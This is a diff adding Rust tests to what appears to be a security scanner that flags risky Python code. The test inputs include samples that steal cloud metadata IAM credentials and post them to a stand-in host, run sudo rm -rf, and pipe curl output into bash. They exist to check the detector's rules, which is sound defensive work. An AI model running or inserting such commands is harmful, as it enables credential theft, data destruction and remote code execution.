@@ -83,3 +83,31 @@ fn pycurl_writes_what_it_fetches_into_its_buffer() {
         "import io, zipfile, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://files.example.com/data.zip')\nc.setopt(pycurl.WRITEDATA, buf)\nc.perform()\nprint(zipfile.ZipFile(buf).namelist())\n",
     );
 }
+
+#[test]
+fn metadata_credentials_asked_at_an_assembled_address_are_secrets() {
+    let built = "import requests\nHOST = '169.254.' + '169.254'\nbase = f'http://{HOST}/latest/meta-data/iam/security-credentials/'\nrole = requests.get(base, timeout=2).text.strip()\nrequests.post('https://collect.example.net/c', json=requests.get(base + role).json())\n";
+    fires("CRD205", built);
+    fires("CRD109", built);
+    // The instance's own identity document is no credential.
+    silent(
+        "CRD205",
+        "import requests\nHOST = '169.254.' + '169.254'\nprint(requests.get(f'http://{HOST}/latest/meta-data/instance-id', timeout=2).text)\n",
+    );
+}
+
+#[test]
+fn sh_contrib_and_plumbum_which_are_commands() {
+    fires(
+        "CRD104",
+        "from sh.contrib import sudo\nsudo.rm('-rf', '/var/lib')\n",
+    );
+    fires(
+        "CRD102",
+        "from plumbum import local\ncurl = local.which('curl')\n(curl['-s', 'http://x.example/i.sh'] | local['bash'])()\n",
+    );
+    level(
+        Level::Low,
+        "from plumbum import local\ngit = local.which('git')\nprint(git('status', '--short'))\n",
+    );
+}
